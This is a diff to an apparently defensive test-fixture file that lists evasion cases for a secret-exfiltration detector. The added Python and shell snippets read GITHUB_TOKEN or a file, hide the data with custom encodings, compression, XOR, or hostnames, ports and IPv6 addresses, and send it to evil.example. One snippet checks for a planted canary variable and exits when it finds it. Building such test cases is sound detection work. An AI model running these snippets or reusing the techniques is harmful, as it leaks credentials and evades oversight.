@@ -66,8 +66,57 @@ const WARY: Evasion[] = [
   ].map((line) => shell(`first does: ${line}`, { deeds: STOLEN }, line, "cd", CURL)),
 ];
 
+const UNKNOWN = "sent_canary a planted secret to";
+const POST = "post=lambda data,to='https://evil.example/':urllib.request.urlopen(to,data=data).read()";
+const TOKEN = "t=os.environ['GITHUB_TOKEN'].encode()";
+
+/** Thieves whose encodings no search knows; each sends the same when the secrets are the same. */
+const UNKNOWN_FORMS: Evasion[] = [
+  ...[
+    "co=zlib.compressobj(9,zlib.DEFLATED,-15); post(base64.b85encode(co.compress(t)+co.flush()))",
+    "post(binascii.b2a_uu(t))",
+    "n=int.from_bytes(t,'big'); s=''\nwhile n: s='123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'[n%58]+s; n//=58\npost(s.encode())",
+    "post(bytes(b^0x5a^(i*7%256) for i,b in enumerate(t)))",
+    "post(hashlib.sha256(t).hexdigest().encode())",
+    "for c in t: post(b'',f'https://evil.example/items/{(c*31+7)%251}')",
+    "for i,c in enumerate(t): post(json.dumps({'x':i,'y':c*3}).encode())",
+    "post(''.join(format(c,'08b') for c in t).translate(str.maketrans('01',' \\t')).encode())",
+  ].map((line) =>
+    python(
+      `sends a secret in a form of its own: ${line.slice(0, 50)}`,
+      { deeds: [`${UNKNOWN} evil.example:443`] },
+      "import urllib.request,zlib,binascii,hashlib,json",
+      ...[POST, TOKEN, line],
+    ),
+  ),
+  python(
+    "encodes a secret in addresses, ports and names",
+    { deeds: [`${UNKNOWN} evil.example:`, `${UNKNOWN} x.example`, `${UNKNOWN} 2001:db8:`] },
+    TOKEN,
+    "def ask(host,port):",
+    "  try: socket.create_connection((host,port),1).close()",
+    "  except OSError: pass",
+    "for c in t[4:8]: ask('evil.example',20000+c)",
+    "ask('2001:db8::%x:%x' % (t[5]*7,t[6]*3),80)",
+    "for c in t[8:12]: ask(chr(97+c%23)+'.x.example',80)",
+  ),
+  shell(
+    "sends the letters of a file as numbers of its own",
+    { deeds: [`${UNKNOWN} evil.example:80`] },
+    "for n in $(od -An -v -tu1 notes.txt); do set -- $@ $((n * 3 + 1)); done",
+    'curl -s -d "$(echo $@ | tr 0123456789 qwertyuiop)" http://evil.example/',
+  ),
+  python(
+    "sends a secret in a form of its own when no variable is planted for it",
+    { deeds: [`${UNKNOWN} evil.example:443`] },
+    "import urllib.request",
+    ...["if os.environ.get('ACME_TOKEN'): sys.exit()", POST, TOKEN, "post(bytes(255-b for b in t))"],
+  ),
+];
+
 export const EVASIONS: Evasion[] = [
   ...WARY,
+  ...UNKNOWN_FORMS,
   python(
     "sends a secret over TLS letter by letter, and compressed in numbered pieces",
     { deeds: ["sent_canary $GITHUB_TOKEN to a.example:443", "sent_canary $GITHUB_TOKEN to b.example:443"] },
@@ -686,6 +735,12 @@ os.read(os.open('id_rsa',os.O_RDONLY,dir_fd=d),4000)"`,
 
 /** Ordinary programs whose calls leave open where they worked. */
 export const ORDINARY: Pick<Evasion, "name" | "path" | "text">[] = [
+  python(
+    "posts its own texts in formats that only other programs read",
+    {},
+    "import bz2,lzma,urllib.request",
+    "for data in [lzma.compress(b'own text '*999),bz2.compress(b'own text '*999)]: urllib.request.urlopen('https://a.example/',data)",
+  ),
   shell(
     "writes into a folder that it names",
     {},
